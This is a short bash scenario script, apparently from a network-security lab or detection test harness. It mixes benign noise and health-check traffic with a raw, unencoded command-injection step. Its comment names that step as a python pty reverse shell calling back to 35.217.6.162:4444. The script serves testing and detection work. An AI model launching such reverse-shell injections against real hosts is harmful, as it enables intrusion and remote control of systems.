# shellcheck shell=bash
# The story's second payload, raw on the request line (spaces, quotes, `&&` unencoded): a python pty
# reverse shell to 35.217.6.162:4444, amid benign noise.
drive() {
    local pids=()
    svc vm1 noise-raw noise --duration 30 --rounds 4 --pause 4; pids+=("$FW_LAST_PID")
    svc vm2 health-raw visitor --host "${FW_ADDR[vm1]}" --path /health --count 4 --pause 4; pids+=("$FW_LAST_PID")
    sleep 6
    run atk inject-raw inject --host "${FW_ADDR[vm1]}" --callback "${FW_ADDR[atk]}" --callback-port 4444 --payload python --raw
    sleep $((FW_HOLD + 4))
    wait_pids "${pids[@]}"
}
